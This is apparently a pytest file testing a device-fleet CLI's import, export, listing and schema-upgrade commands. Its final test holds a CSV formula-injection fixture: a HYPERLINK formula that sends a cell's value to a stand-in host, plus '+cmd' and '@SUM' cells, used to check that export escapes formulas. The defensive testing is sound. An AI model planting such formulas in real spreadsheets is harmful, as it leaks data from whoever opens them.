"""``firmwatch fleet …`` and ``firmwatch db upgrade`` end to end, on every backend."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.fleets import Fleet
from bot.slack.subscriptions import subscribe, subscriptions
from state import open_store
from tests.conftest import DATA
from tests.state_helpers import run_cli

CONFIG = """
[state]
url = "tinydb:///state/fw.json"

[[receivers]]
name = "ops"
type = "console"

[[fleets]]
name = "declared"
description = "From bot.toml"
receivers = ["ops"]
[[fleets.devices]]
model = "DS-2CD3321G2-I"
firmware = "V5.7.13 build 230822"
count = 4
site = "Lab"
"""


@pytest.fixture
def config(tmp_path: Path, store_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """A bot.toml whose store is the backend under test (through DATABASE_URL)."""
    monkeypatch.setenv("DATABASE_URL", store_url)
    monkeypatch.delenv("FIRMWATCH_CONFIG", raising=False)
    path = tmp_path / "bot.toml"
    path.write_text(CONFIG)
    for name in ("fleets.csv", "fleets-changed.csv", "bad.csv"):
        shutil.copy(DATA / "fleets" / name, tmp_path / name)
    return str(path)


def cli(monkeypatch: pytest.MonkeyPatch, config: str, *argv: str) -> tuple[int, str, str]:
    return run_cli(monkeypatch, *argv, "--config", config)


def _import_elsewhere(
    monkeypatch: pytest.MonkeyPatch, config: str, tmp_path: Path, exported: str
) -> None:
    """Import an export into a new, empty store (which the config uses from then on)."""
    (tmp_path / "exported.csv").write_text(exported)
    other = tmp_path / "other"
    other.mkdir()
    monkeypatch.setenv("DATABASE_URL", f"tinydb:///{other / 'fw.json'}")
    code, _, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "exported.csv"))
    assert (code, err) == (0, "")


def test_import_list_show_export_remove(
    config: str, store_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    assert (code, err) == (0, "")
    assert "warning: fleets.csv line 9: firmware: 'latest'" in out
    assert "fleets.csv: fleets new: hq-campus, warehouses; device groups: 6 added" in out
    code, out, _ = cli(monkeypatch, config, "fleet", "list")
    assert code == 0 and out.splitlines()[0].split() == [
        "FLEET", "GROUPS", "DEVICES", "FROM", "RECEIVERS"]
    assert out.splitlines()[1].split() == ["declared", "1", "4", "bot.toml", "ops"]
    assert out.splitlines()[2].split() == ["hq-campus", "3", "54", "import", "-"]
    code, out, _ = cli(monkeypatch, config, "fleet", "list", "--json")
    assert [(f["name"], f["groups"], f["devices"]) for f in json.loads(out)] == [
        ("declared", 1, 4), ("hq-campus", 3, 54), ("warehouses", 3, 34)]
    code, out, _ = cli(monkeypatch, config, "fleet", "show", "warehouses")
    assert code == 0 and "iDS-7716NXI-M4/X" in out and "(unknown)" in out
    code, out, _ = cli(monkeypatch, config, "fleet", "show", "hq-campus", "--json")
    shown = json.loads(out)
    assert shown["devices"] == 54 and len(shown["device_groups"]) == 3
    code, out, _ = cli(monkeypatch, config, "fleet", "export", "hq-campus")
    assert code == 0 and out.splitlines() == [
        "fleet,model,firmware,count,site,launched,discontinued",
        "hq-campus,DS-2CD3321G2-I,V5.7.13 build 230822,40,Site A,2021-03-15,",
        "hq-campus,DS-2CD3321G2-I,V5.5.800 build 210628,12,Site B,2021-03-15,",
        "hq-campus,DS-96064NI-I16,V4.30.096 build 221220,2,Site A,2019-01-15,2027-03-01",
    ]
    with open_store(store_url) as store:  # a channel subscribed in Slack goes with the fleet
        subscribe(store, "hq-campus", "C0HQCAMPUS", datetime.now(UTC))
    code, out, _ = cli(monkeypatch, config, "fleet", "remove", "hq-campus")
    assert (code, out.splitlines()) == (0, [
        "removed fleet hq-campus and its 3 device group(s)",
        "its Slack channels no longer get its alerts: C0HQCAMPUS (a fleet made later under this"
        " name starts with none)",
    ])
    with open_store(store_url) as store:
        assert subscriptions(store) == {}
    code, _, err = cli(monkeypatch, config, "fleet", "show", "hq-campus")
    assert code == 1 and "no fleet named 'hq-campus' (fleets: declared, warehouses)" in err


def test_a_bad_file_changes_nothing_and_names_its_lines(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    _, before, _ = cli(monkeypatch, config, "fleet", "export")
    code, out, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "bad.csv"))
    assert (code, out) == (1, "")
    lines = err.splitlines()
    assert lines[0] == "firmwatch fleet: bad.csv: 8 problem(s); nothing was changed"
    assert [line.split(":")[0] for line in lines[1:]] == [
        f"bad.csv line {n}" for n in (3, 4, 5, 6, 7, 8, 9, 10)]
    _, after, _ = cli(monkeypatch, config, "fleet", "export")
    assert after == before


def test_importing_twice_changes_nothing_and_replace_prunes(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    _, out, _ = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    assert "nothing changed; device groups: 0 added, 0 updated, 0 removed, 6 unchanged" in out
    _, out, _ = cli(monkeypatch, config, "fleet", "import", "--replace",
                    str(tmp_path / "fleets-changed.csv"))
    assert "device groups: 1 added, 1 updated, 1 removed, 1 unchanged" in out


def test_export_imports_back_into_an_empty_store(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    _, exported, _ = cli(monkeypatch, config, "fleet", "export")
    _, listed, _ = cli(monkeypatch, config, "fleet", "list", "--json")
    _import_elsewhere(monkeypatch, config, tmp_path, exported)
    assert cli(monkeypatch, config, "fleet", "export")[1] == exported
    assert json.loads(cli(monkeypatch, config, "fleet", "list", "--json")[1]) == json.loads(
        listed)


def test_a_fleet_declared_in_bot_toml_is_removed_there(
    config: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    code, _, err = cli(monkeypatch, config, "fleet", "remove", "declared")
    assert code == 1 and "is declared in" in err and "remove it there" in err
    code, _, err = cli(monkeypatch, config, "fleet", "remove", "nope")
    assert code == 1 and "no fleet named 'nope'" in err


def test_a_missing_file_is_reported(config: str, monkeypatch: pytest.MonkeyPatch) -> None:
    code, _, err = cli(monkeypatch, config, "fleet", "import", "/nonexistent/fleets.csv")
    assert code == 1 and "cannot read /nonexistent/fleets.csv" in err


def test_db_upgrade(config: str, monkeypatch: pytest.MonkeyPatch, store_url: str) -> None:
    code, out, err = cli(monkeypatch, config, "db", "upgrade")
    assert code == 0 and err == "" and "schema" in out
    code, out, _ = cli(monkeypatch, config, "db", "upgrade")
    assert code == 0 and "is up to date" in out


def test_relative_tinydb_paths_follow_the_config_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.chdir("/")
    config = tmp_path / "bot.toml"
    config.write_text(CONFIG)
    code, out, _ = run_cli(monkeypatch, "db", "upgrade", "--config", str(config))
    assert code == 0 and "from schema none to 1" in out
    assert (tmp_path / "state" / "fw.json").exists()


def test_a_busy_tinydb_file_is_a_clear_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DATABASE_URL", raising=False)
    config = tmp_path / "bot.toml"
    config.write_text(CONFIG)
    with open_store(f"tinydb:///{tmp_path / 'state' / 'fw.json'}"):
        code, _, err = run_cli(monkeypatch, "fleet", "list", "--config", str(config))
    assert code == 1 and "is in use by pid" in err


def test_import_reads_stdin(config: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO((DATA / "fleets" / "fleets.csv").read_text()))
    code, out, _ = cli(monkeypatch, config, "fleet", "import", "-")
    assert code == 0 and out.endswith("stdin: fleets new: hq-campus, warehouses; device groups:"
                                      " 6 added, 0 updated, 0 removed, 0 unchanged; lifecycle"
                                      " dates updated for 3 model(s)\n")


GOOD = ("fleet,model,firmware,count,site\nimp,DS-2CD3321G2-I,V5.7.13,10,A\n"
        "imp,DS-96064NI-I16,V4.30,1,A\n")
DECLARING = """
[[receivers]]
name = "c"
type = "console"

[[fleets]]
name = "imp"
receivers = ["c"]
"""


def test_a_bot_toml_entry_never_takes_imported_groups_with_it(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store_url: str
) -> None:
    """Declaring an imported fleet in bot.toml (to give it receivers), then dropping the entry
    or running with another config, keeps the imported inventory; read commands write nothing."""
    (tmp_path / "good.csv").write_text(GOOD)
    (tmp_path / "plain.toml").write_text("")
    (tmp_path / "declaring.toml").write_text(DECLARING)
    plain, declaring = str(tmp_path / "plain.toml"), str(tmp_path / "declaring.toml")
    assert cli(monkeypatch, plain, "fleet", "import", str(tmp_path / "good.csv"))[0] == 0
    code, out, _ = cli(monkeypatch, declaring, "fleet", "list")
    assert code == 0 and out.splitlines()[1].split() == ["imp", "2", "11", "bot.toml", "c"]
    with open_store(store_url) as store:
        assert store.fleets.all() == [Fleet("imp")], "a read command wrote to the store"
    code, out, err = cli(monkeypatch, plain, "fleet", "show", "imp")
    assert (code, err) == (0, "") and "2 device group(s), 11 device(s)" in out
    # a command that writes (here an import) stores the declaration, then one without it
    assert cli(monkeypatch, declaring, "fleet", "import", str(tmp_path / "good.csv"))[0] == 0
    with open_store(store_url) as store:
        assert store.fleets.all() == [Fleet("imp", receivers=("c",), origin="config")]
    assert cli(monkeypatch, plain, "fleet", "import", str(tmp_path / "good.csv"))[0] == 0
    with open_store(store_url) as store:
        assert store.fleets.all() == [Fleet("imp")], "the bot.toml settings go, the fleet stays"
        assert [(g.model, g.count, g.origin) for g in store.fleets.groups("imp")] == [
            ("DS-2CD3321G2-I", 10, "import"), ("DS-96064NI-I16", 1, "import")]


def test_lookup_reads_the_dates_a_fleet_import_stored(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The model card uses the lifecycle dates of `fleet import` as the cycle does."""
    cli(monkeypatch, config, "fleet", "import", str(tmp_path / "fleets.csv"))
    code, out, err = cli(monkeypatch, config, "lookup", "ds-96064ni-i16", "--on", "2026-01-01",
                         "--json")
    assert (code, err) == (0, "")
    card = json.loads(out)
    assert (card["stage"], card["launched"], card["discontinued"], card["dates_source"]) == (
        "dynamic", "2019-01-15", "2027-03-01", "fleets.csv line 5")


def test_lookup_creates_no_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Looking a model up with a config whose embedded store does not exist writes nothing."""
    monkeypatch.delenv("DATABASE_URL", raising=False)
    config = tmp_path / "bot.toml"
    config.write_text(CONFIG)
    code, out, _ = run_cli(monkeypatch, "lookup", "DS-2CD3321G2-I", "--config", str(config))
    assert code == 0 and "not in the catalog" in out
    assert not (tmp_path / "state").exists()


def test_spreadsheet_encodings(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel's "Unicode Text" (UTF-16, tab-separated) imports; its legacy "CSV" (Windows-1252)
    is refused saying how to save the file, and nothing is stored."""
    text = "fleet\tmodel\tfirmware\tcount\tsite\nhq\tDS-2CD2143G2-IS\tV5.7.13\t4\tZürich\n"
    (tmp_path / "unicode.txt").write_bytes(text.encode("utf-16"))
    code, out, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "unicode.txt"))
    assert (code, err) == (0, "") and "1 added" in out
    _, shown, _ = cli(monkeypatch, config, "fleet", "show", "hq", "--json")
    assert json.loads(shown)["device_groups"][0]["site"] == "Zürich"
    (tmp_path / "legacy.csv").write_bytes(text.replace("hq", "legacy").encode("cp1252"))
    code, _, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "legacy.csv"))
    assert code == 1 and err == (
        f"firmwatch fleet: cannot read {tmp_path / 'legacy.csv'}: not UTF-8 text (byte 0xfc at"
        " offset 66); save it as UTF-8 (in Excel: CSV UTF-8)\n")
    assert "legacy" not in cli(monkeypatch, config, "fleet", "list")[1]


def test_warnings_are_capped_like_problems(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A big inventory whose firmware column says "latest" everywhere gives 50 warnings and a
    count of the rest, not one line per row."""
    rows = "".join(f"big,DS-2CD3321G2-I,latest,1,site {i}\n" for i in range(60))
    (tmp_path / "big.csv").write_text("fleet,model,firmware,count,site\n" + rows)
    code, out, _ = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "big.csv"))
    lines = out.splitlines()
    assert code == 0 and len(lines) == 52
    assert lines[49].startswith("warning: big.csv line 51: firmware: 'latest'")
    assert lines[50:] == ["warning: … and 10 more",
                          "big.csv: fleets new: big; device groups: 60 added, 0 updated,"
                          " 0 removed, 0 unchanged"]


def test_an_import_says_which_groups_bot_toml_lists(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store_url: str
) -> None:
    """A row for a device bot.toml lists (same model, firmware and site) is not reported as an
    update the next sync takes back: the import says bot.toml's values stay, and they do."""
    (tmp_path / "lab.csv").write_text(
        "fleet,model,firmware,count,site\n"
        "declared,ds-2cd3321g2-i,V5.7.13 build 230822,40,Lab\n"
        "declared,DS-2CD3321G2-I,V5.7.13 build 230822,3,Annex\n")
    code, out, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "lab.csv"))
    assert (code, err) == (0, "")
    assert out == ("lab.csv: device groups: 1 added, 0 updated, 0 removed, 0 unchanged;"
                   " 1 left as bot.toml lists it\n")
    with open_store(store_url) as store:
        assert sorted((g.site, g.count, g.origin) for g in store.fleets.groups("declared")) == [
            ("Annex", 3, "import"), ("Lab", 4, "config")]
    _, out, _ = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "lab.csv"))
    assert out.startswith("lab.csv: nothing changed; device groups: 0 added, 0 updated,"
                          " 0 removed, 1 unchanged; 1 left as bot.toml lists it")


@pytest.mark.parametrize("command", [["list"], ["show", "declared"], ["export"]])
def test_reading_fleets_creates_no_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]
) -> None:
    """Listing, showing or exporting fleets before any cycle shows bot.toml's fleets and leaves
    no store file behind (it used to create an empty one)."""
    monkeypatch.delenv("DATABASE_URL", raising=False)
    config = tmp_path / "bot.toml"
    config.write_text(CONFIG)
    code, out, err = run_cli(monkeypatch, "fleet", *command, "--config", str(config))
    assert (code, err) == (0, "") and ("declared" in out or "DS-2CD3321G2-I" in out)
    assert not (tmp_path / "state").exists()


def test_an_import_of_many_fleets_names_ten_and_counts_the_rest(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = "".join(f"site-{i:03d},DS-2CD3321G2-I,V5.7.13,1,A\n" for i in range(200))
    (tmp_path / "many.csv").write_text("fleet,model,firmware,count,site\n" + rows)
    code, out, _ = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "many.csv"))
    names = ", ".join(f"site-{i:03d}" for i in range(10))
    assert code == 0 and out == (f"many.csv: fleets new: {names} and 190 more; device groups:"
                                 " 200 added, 0 updated, 0 removed, 0 unchanged\n")


def test_export_writes_formulas_as_text_and_imports_them_back(
    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Sites, firmware, tags and serials come from CSV imports and the REST API (a CMDB whose
    users type them): ``fleet export`` is opened in a spreadsheet, so a cell that would run as a
    formula is written with a leading apostrophe, and importing the export gives it back."""
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(
        "fleet,model,firmware,count,site,tags,serials\n"
        'msp,DS-2CD2043G2-I,V5.7.3,2,"=HYPERLINK(""http://x.example/?""&A1,""Lab"")",'
        "+cmd;@SUM(1),-2+3\n"
        "msp,DS-2CD2043G2-I,V5.7.3,3,'=typed as text,,\n"
        "msp,DS-2CD2043G2-I,V5.7.3,4,'quoted,,\n"
    )
    code, _, err = cli(monkeypatch, config, "fleet", "import", str(hostile))
    assert (code, err) == (0, "")
    _, exported, _ = cli(monkeypatch, config, "fleet", "export", "msp")
    rows = {row["count"]: row for row in csv.DictReader(io.StringIO(exported))}
    cells = [v for row in rows.values() for v in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], exported
    assert rows["2"]["site"] == '\'=HYPERLINK("http://x.example/?"&A1,"Lab")'
    assert (rows["2"]["tags"], rows["2"]["serials"]) == ("'+cmd;@SUM(1)", "'-2+3")
    assert rows["3"]["site"] == "'=typed as text"  # a spreadsheet's own way to write text
    assert rows["4"]["site"] == "''quoted"  # an apostrophe that is part of the text
    _import_elsewhere(monkeypatch, config, tmp_path, exported)
    assert cli(monkeypatch, config, "fleet", "export", "msp")[1] == exported
    shown = json.loads(cli(monkeypatch, config, "fleet", "show", "msp", "--json")[1])
    assert sorted((g["site"], g["tags"], g["serials"]) for g in shown["device_groups"]) == [
        ("'quoted", [], []), ("=HYPERLINK(\"http://x.example/?\"&A1,\"Lab\")", ["+cmd", "@SUM(1)"],
                             ["-2+3"]), ("=typed as text", [], [])]
